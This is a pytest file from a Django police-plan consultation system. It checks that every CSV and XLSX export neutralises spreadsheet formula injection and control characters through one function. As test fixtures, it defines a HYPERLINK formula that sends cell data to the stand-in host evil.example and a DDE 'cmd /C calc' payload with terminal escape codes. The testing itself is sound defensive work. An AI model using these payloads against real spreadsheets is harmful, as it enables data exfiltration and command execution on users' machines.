"""Every CSV and XLSX the system writes neutralises text a spreadsheet would run as a formula,
in its header and in its cells, through one function (`policeplan.safecells.safe_cell`);
numbers typed as numbers stay numbers. The same function replaces control characters (a
public respondent's vertical tab broke the Excel export with a 500, and the CSV passed an ESC
sequence through to whoever opened it in a terminal)."""

from __future__ import annotations

import csv
import io
import re
import uuid

import pytest
from django.core.management import call_command
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from policeplan.consultations import selectors, services
from policeplan.consultations.models import Question
from policeplan.consultations.tests.conftest import build
from policeplan.performance.tests.conftest import london, run_import, warehouse_root  # noqa: F401
from policeplan.safecells import TRIGGERS, is_formula, safe_cell

pytestmark = pytest.mark.django_db

HEADER_ATTACK = '=HYPERLINK("http://evil.example/?q="&A2,"Click")'
CONTROLS = "\x0b\x01\x1b[31m"
CELL_ATTACK = "@SUM(1+1)*cmd|' /C calc'!A0" + CONTROLS
SAFE_ATTACK = "'@SUM(1+1)*cmd|' /C calc'!A0\ufffd\ufffd\ufffd[31m"
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def _is_live_formula(text: str) -> bool:
    return is_formula(text)


def _is_harmful(text: str) -> bool:
    return _is_live_formula(text) or bool(CONTROL.search(text))


def test_the_one_function_neutralises_each_prefix_and_leaves_numbers_alone():
    for prefix in TRIGGERS:
        assert safe_cell(prefix + "1+1") == "'" + prefix + "1+1"
    assert safe_cell(-12.5) == -12.5 and safe_cell(-3) == -3
    # Spaces a CSV import may trim, and the full-width forms Excel takes as formula prefixes.
    for text in ("  =1+1", "\u00a0@SUM(A1)", "\u3000+1", "\uff1d1+1", " \uff20x", "\n=1+1"):
        assert safe_cell(text) == "'" + text, repr(text)
    # Text that only has a prefix later on, or a space before a word, is left alone.
    assert safe_cell("a=b") == "a=b" and safe_cell(" Barnet") == " Barnet"
    assert safe_cell("Barnet") == "Barnet" and safe_cell(None) is None


def test_the_one_function_replaces_every_character_a_spreadsheet_or_terminal_would_act_on():
    every = "".join(chr(i) for i in range(0x20)) + "\x7f\x9b\ud800\ufffe"
    cleaned = safe_cell("a" + every)
    assert not ILLEGAL_CHARACTERS_RE.search(cleaned) and not CONTROL.search(cleaned)
    assert cleaned == "a" + "".join(c if c in "\t\n\r" else "\ufffd" for c in every)
    # Replaced, not removed: a control character in front of "=" cannot leave a live formula.
    assert safe_cell("\x01=1+1") == "\ufffd=1+1" and safe_cell("\x1b") == "\ufffd"
    assert safe_cell("Line one\nline two") == "Line one\nline two"


@pytest.fixture
def hostile_consultation(demo, users):
    consultation = build(users["policy_officer"])
    section = consultation.sections.order_by("order").last()
    services.question_save(
        user=users["policy_officer"],
        section=section,
        data={"kind": "free_text", "text": HEADER_ATTACK, "max_length": 200},
    )
    ctx = selectors.question_context(consultation=consultation)
    questions = {q.kind: q for q in Question.objects.filter(section__consultation=consultation)}
    hostile = Question.objects.get(section__consultation=consultation, text=HEADER_ATTACK)
    services.response_submit_complete(
        consultation=consultation,
        token=uuid.uuid4(),
        answers={
            questions["borough"]: ("E09000008", ctx.boroughs["E09000008"]),
            questions["respondent_type"]: (
                {"type": "individual", "organisation": ""},
                "As an individual",
            ),
            hostile: (CELL_ATTACK, CELL_ATTACK),
            Question.objects.get(
                section__consultation=consultation, text="What should the plan do differently?"
            ): ("-2+3", "-2+3"),
        },
        consent="no",
    )
    return consultation


def test_the_responses_csv_neutralises_a_question_in_the_header_and_an_answer(
    client, users, hostile_consultation
):
    client.force_login(users["analyst"])
    page = client.get(f"/staff/consultations/{hostile_consultation.pk}/responses/export.csv")
    rows = list(csv.reader(io.StringIO(page.content.decode())))
    assert "'" + HEADER_ATTACK in rows[0]
    assert SAFE_ATTACK in rows[1] and "'-2+3" in rows[1]
    assert not any(_is_harmful(cell) for row in rows for cell in row)
    assert "\x1b" not in page.content.decode()


def test_the_responses_xlsx_neutralises_a_question_in_the_header_and_an_answer(
    client, users, hostile_consultation
):
    client.force_login(users["analyst"])
    page = client.get(f"/staff/consultations/{hostile_consultation.pk}/responses/export.xlsx")
    assert page.status_code == 200
    sheet = load_workbook(io.BytesIO(page.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert "'" + HEADER_ATTACK in rows[0]
    assert SAFE_ATTACK in rows[1]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert not any(isinstance(c.value, str) and _is_harmful(c.value) for c in cells)


def test_pages_show_the_control_characters_harmlessly(client, users, hostile_consultation):
    """HTML is not a spreadsheet: the pages are served, the text is escaped as any other,
    and the control characters stay inside a text node, where a browser acts on none."""
    from policeplan.consultations.models import Response

    response = Response.objects.get(consultation=hostile_consultation)
    client.force_login(users["policy_officer"])
    for url in (
        f"/staff/consultations/{hostile_consultation.pk}/responses/",
        f"/staff/consultations/{hostile_consultation.pk}/responses/{response.pk}/",
    ):
        page = client.get(url)
        assert page.status_code == 200, url
    assert "@SUM(1+1)*cmd|&#39; /C calc&#39;!A0\x0b\x01\x1b[31m\n    </dd>" in page.content.decode()


@pytest.mark.usefixtures("warehouse_root")
def test_the_measure_download_neutralises_text_and_keeps_negative_figures_as_numbers(
    client, demo, shared_data
):
    from policeplan.performance.models import MeasureValue
    from policeplan.plans.models import Measure

    run_import("pas", shared_data / "mopac-pas/PAS_buroughs.csv")
    trust = Measure.objects.get(
        outcome__priority__version=demo, title="Londoners who trust the Met"
    )
    Measure.objects.filter(lineage=trust.lineage).update(title=CELL_ATTACK)
    MeasureValue.objects.filter(measure_lineage=trust.lineage, area__code="E09000003").update(
        value=-0.25
    )
    page = client.get(
        f"/performance/measures/{trust.lineage}/download.csv",
        {"table": "trend", "area": "E09000003"},
    )
    rows = list(csv.reader(io.StringIO(page.content.decode())))
    assert rows[1][0] == SAFE_ATTACK
    value = next(i for i, name in enumerate(rows[0]) if name.startswith("value"))
    assert rows[1][value] == "-0.25"
    assert not any(_is_harmful(cell) for row in rows for cell in row if cell != "-0.25")


@pytest.mark.usefixtures("warehouse_root")
def test_data_counts_neutralises_a_category_from_the_file(shared_data, tmp_path, capsys):
    source = shared_data / "police-uk/city-of-london/street/2022-07-city-of-london-street.csv"
    with source.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    column = rows[0].index("Crime type")
    for row in rows[1:]:
        row[column] = CELL_ATTACK
    hostile = tmp_path / source.name
    with hostile.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    call_command("import", "police-uk", str(hostile), "--no-progress")
    capsys.readouterr()
    call_command("data", "counts", "--dataset", "street", "--level", "force", "--format", "csv")
    lines = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert lines[1][3] == SAFE_ATTACK and int(lines[1][4]) == len(rows) - 1
    assert not any(_is_harmful(cell) for row in lines for cell in row)


def test_analyse_outputs_neutralise_ids_and_themes_from_the_files(db, tmp_path):
    answers = tmp_path / "answers.csv"
    labelled = tmp_path / "labelled.csv"
    texts = ["More police on the streets at night", "Fix the street lighting in the park"] * 6
    with answers.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "text"])
        writer.writerows([f"-{i}+cmd" if i == 0 else f"R{i}", t] for i, t in enumerate(texts))
    with labelled.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "text", "theme"])
        writer.writerows(
            [f"L{i}", t, CELL_ATTACK if "police" in t else "Lighting"] for i, t in enumerate(texts)
        )
    out = tmp_path / "assigned.csv"
    call_command(
        "analyse",
        "assign",
        str(answers),
        "--text-column",
        "text",
        "--id-column",
        "id",
        "--examples",
        str(labelled),
        "--out",
        str(out),
    )
    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert rows[1][:2] == ["'-0+cmd", SAFE_ATTACK]
    assert not any(_is_harmful(cell) for row in rows for cell in row)
    themes = tmp_path / "themes.csv"
    call_command(
        "analyse",
        "suggest",
        str(answers),
        "--text-column",
        "text",
        "--id-column",
        "id",
        "--themes",
        "2",
        "--out",
        str(themes),
    )
    suggested = list(csv.reader(themes.open(encoding="utf-8")))
    assert any("'-0+cmd" in row[2] or row[2].startswith("R") for row in suggested[1:])
    assert not any(_is_harmful(cell) for row in suggested for cell in row)


def test_no_output_writes_csv_or_xlsx_around_the_one_function():
    """Every writer goes through policeplan.safecells; the only raw csv writers left make
    inputs for the importers (the downloader and the demo files), never files for people."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "policeplan"
    inputs_only = {"warehouse/download.py", "performance/demodata.py", "safecells.py"}
    raw = []
    for path in root.rglob("*.py"):
        name = str(path.relative_to(root))
        if "/tests/" in f"/{name}" or name in inputs_only:
            continue
        text = path.read_text()
        for pattern in ("csv.writer(", "csv.DictWriter(", ".to_csv(", "Workbook("):
            if pattern in text and not (pattern == "Workbook(" and "safe_row(" in text):
                raw.append(f"{name}: {pattern}")
    assert raw == []
